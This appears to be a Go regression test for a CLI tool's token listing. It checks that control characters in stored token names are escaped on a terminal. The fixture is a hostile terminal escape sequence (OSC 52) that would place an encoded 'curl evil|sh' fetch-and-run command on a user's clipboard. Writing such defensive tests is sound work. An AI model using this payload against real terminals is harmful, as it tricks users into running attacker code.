package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"github.com/tallyhq/tally"
	"github.com/tallyhq/tally/internal/pgtest"
	"github.com/tallyhq/tally/postgres"
	"github.com/tallyhq/tally/web"
)

// openPTY opens a pseudo-terminal: its controlling side and the terminal a
// program writes to.
func openPTY(t *testing.T) (control, tty *os.File) {
	t.Helper()
	control, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("no pseudo-terminal: %v", err)
	}
	t.Cleanup(func() { control.Close() })
	var unlock int32
	if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, control.Fd(), syscall.TIOCSPTLCK, uintptr(unsafe.Pointer(&unlock))); e != 0 {
		t.Fatalf("unlock pty: %v", e)
	}
	var n uint32
	if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, control.Fd(), syscall.TIOCGPTN, uintptr(unsafe.Pointer(&n))); e != 0 {
		t.Fatalf("pty number: %v", e)
	}
	tty, err = os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tty.Close() })
	return control, tty
}

// TestTerminalOutputEscapesControls: a name Tally prints (here a token's,
// which the API takes as any text) holding an escape sequence went raw to
// the terminal, which ran it: this one, OSC 52, sets the clipboard of the
// person running tally token list to a command of the attacker's choosing.
// On a terminal, control characters are shown escaped; redirected, the
// output is unchanged.
func TestTerminalOutputEscapesControls(t *testing.T) {
	const hostile = "ci\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2K\r\u009b31m"
	url := pgtest.NewURL(t, true)
	db, err := postgres.Open(context.Background(), url)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	_, tok := web.NewToken()
	tok.Name, tok.Kind, tok.Role = hostile, tally.TokenAPI, tally.RoleViewer
	if _, err := db.CreateToken(context.Background(), tok); err != nil {
		t.Fatal(err)
	}

	control, tty := openPTY(t)
	var stderr bytes.Buffer
	if code := run([]string{"--database-url", url, "--log-level", "warn", "token", "list"}, tty, &stderr); code != 0 {
		t.Fatalf("token list: exit %d: %s", code, stderr.String())
	}
	tty.Close()
	_ = control.SetReadDeadline(time.Now().Add(5 * time.Second))
	var shown bytes.Buffer
	_, _ = io.Copy(&shown, control) // ends with EIO once the terminal side is closed
	out := shown.String()
	if !strings.Contains(out, "EXPIRES") {
		t.Fatalf("terminal shows %q, want the token list", out)
	}
	if strings.ContainsAny(out, "\x1b\x07\u009b") {
		t.Errorf("terminal received control characters: %q", out)
	}
	if !strings.Contains(out, `ci\x1b]52;c;Y3VybCBldmlsfHNo\a\x1b[2K\r\u009b31m`) {
		t.Errorf("terminal shows %q, want the name with its control characters escaped", out)
	}

	// Redirected, the bytes are the name's own.
	_, out, _ = runTally("--database-url", url, "--log-level", "warn", "token", "list")
	if !strings.Contains(out, hostile) {
		t.Errorf("redirected output %q does not hold the name as stored", out)
	}
}
